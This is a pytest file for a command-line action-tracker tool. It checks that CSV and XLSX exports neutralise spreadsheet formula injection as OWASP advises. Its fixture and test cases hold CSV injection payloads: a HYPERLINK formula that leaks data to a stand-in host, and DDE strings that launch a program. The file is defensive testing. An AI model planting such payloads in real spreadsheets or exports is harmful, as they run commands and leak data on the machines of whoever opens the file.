"""Exports neutralise formula injection (issue 10, OWASP's CSV injection advice): a cell
that starts with = + - @, a tab or a carriage return gets an apostrophe in CSV (on
screen and in files) and is stored as quoted text in XLSX; a plain number or a lone dash
still reads as itself, and the edited file imports back to the same texts."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner, Result

from reminder.cli import app
from reminder.cli.export import neutralised

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TRACKER = (
    "Action,Owner,Deadline,Status,Remarks\n"
    '"=HYPERLINK(""http://x.example/?leak="",""click"")",IOM,30/11/2026,open,-5\n'
    "\"@SUM(1+1)*cmd|' /C calc'!A0 to be checked\",=cmd|' /C calc'!A0,31/12/2026,open,+1\n"
    '"-2+3+cmd|\' /C calc\'!A0 partners to map sites",UNHCR,-,open,"=1+1"\n'
    '"+Share the list with partners",@NRC,15/12/2026,open,-\n'
)


@pytest.fixture
def register(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """A register holding the hostile tracker; the global options that reach it."""
    monkeypatch.chdir(tmp_path)
    for name in ("REMINDER_CONFIG", "REMINDER_DATABASE_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("COLUMNS", "200")
    tracker = tmp_path / "tracker.csv"
    tracker.write_text(TRACKER, encoding="utf-8")
    options = ["--database", f"sqlite:///{tmp_path / 'register.db'}"]
    result = run(
        *options,
        "import",
        str(tracker),
        "--forum",
        "Shelter Cluster",
        "--new-forum",
        "--meeting-date",
        "2026-11-18",
    )
    assert result.exit_code == 0, result.output
    return options


def run(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


def _texts(options: list[str]) -> list[str]:
    listed = run(*options, "actions", "--format", "json")
    assert listed.exit_code == 0, listed.output
    return sorted(row["text"] for row in json.loads(listed.stdout))


def _safe(cell: str) -> bool:
    return not cell.startswith(FORMULA_START) or cell == "-" or _number(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("--", "'--"),
        ("-", "-"),
        ("-5", "-5"),
        ("-2.5", "-2.5"),
        ("+1", "+1"),
        ("-1e3", "-1e3"),
        ("2026-12-31", "2026-12-31"),
        ("IOM", "IOM"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_a_cell_is_neutralised_as_owasp_advises(value: str, written: str) -> None:
    assert neutralised(value) == written


def test_actions_as_csv_on_screen_runs_no_formula(register: list[str]) -> None:
    listed = run(*register, "actions", "--format", "csv")
    assert listed.exit_code == 0, listed.output
    rows = list(csv.reader(io.StringIO(listed.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(_safe(cell) for cell in cells), [c for c in cells if not _safe(c)]
    texts = [row[rows[0].index("text")] for row in rows[1:]]
    assert '\'=HYPERLINK("http://x.example/?leak=","click")' in texts
    assert "'+Share the list with partners" in texts


def test_the_csv_export_runs_no_formula_and_imports_back_unchanged(
    register: list[str], tmp_path: Path
) -> None:
    before = _texts(register)
    out = tmp_path / "export.csv"
    result = run(*register, "actions", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        _title, header, *rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert all(_safe(cell) for cell in cells), [c for c in cells if not _safe(c)]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells) and any(c.startswith("'-2+3") for c in cells)
    remarks = [row[header.index("Remarks")] for row in rows]
    assert "-5" in remarks and "+1" in remarks, "plain numbers read as themselves"
    back = run(*register, "import", str(out), "--forum", "Shelter Cluster")
    assert back.exit_code == 0, back.output
    assert "new 0, updated 0, unchanged 4" in back.stdout
    assert _texts(register) == before


def test_the_xlsx_export_stores_formulas_as_quoted_text(
    register: list[str], tmp_path: Path
) -> None:
    before = _texts(register)
    out = tmp_path / "export.xlsx"
    result = run(*register, "actions", "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells), "text, never a formula"
    quoted = {c.value for c in cells if c.quotePrefix}
    assert '=HYPERLINK("http://x.example/?leak=","click")' in quoted
    assert "+Share the list with partners" in quoted and "@NRC" in quoted
    assert not quoted & {"-5", "+1", "-"}, "plain numbers and a dash are no formulas"
    back = run(*register, "import", str(out), "--forum", "Shelter Cluster")
    assert back.exit_code == 0, back.output
    assert _texts(register) == before
